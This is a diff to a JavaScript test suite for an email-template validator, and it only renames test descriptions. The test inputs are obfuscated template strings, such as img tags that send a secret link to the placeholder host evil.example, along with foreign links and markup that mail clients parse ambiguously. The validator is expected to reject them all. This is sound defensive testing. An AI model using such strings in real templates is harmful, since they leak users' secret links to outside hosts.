@@ -48,7 +48,7 @@ describe('a template with a link', () => {
     '<{% if code == "z" %} {% endif %}img alt=">" src="https:/{% if code == "z" %} {% endif %}/evil.example/? {{ link }} ">',
     '<{% if code == "z" %} {% endif %}img src="https:/{% if code == "z" %} {% endif %}/evil.example/? {{ link }} ">',
     '<{{ "img" }} src="{{ link }}">',
-  ])('may not hand it on: %s', (text) => {
+  ])('is rejected if it leaks the link: %s', (text) => {
     expect(codeOf(text)).toBe('secret_misplaced');
   });
 
@@ -78,7 +78,7 @@ describe('a template with a link', () => {
     [`<a href="{{ 'https://evil.example/' }}">x</a>`, 'foreign_link'],
     ["https:/{% if code == 'z' %} {% endif %}/evil.example", 'foreign_link'],
     ["{{ 'https:/' }}/evil.example", 'foreign_link'],
-  ])('loads and leads to nothing of others: %s', (text, code) => {
+  ])('is rejected if it loads from or links to other sites: %s', (text, code) => {
     expect(codeOf(text)).toBe(code);
   });
 });
@@ -100,7 +100,7 @@ it.each([
 });
 
 it.each(['<img alt=">" src="x">', '<img alt=x>', '<!-- x -->', '<img src="x"', '<p/class="x">'])(
-  'does not split what programs read differently: %s',
+  'rejects markup that mail programs parse differently: %s',
   (html) => {
     expect(splitTags(`<p>x</p>${html}`)).toBeUndefined();
   },
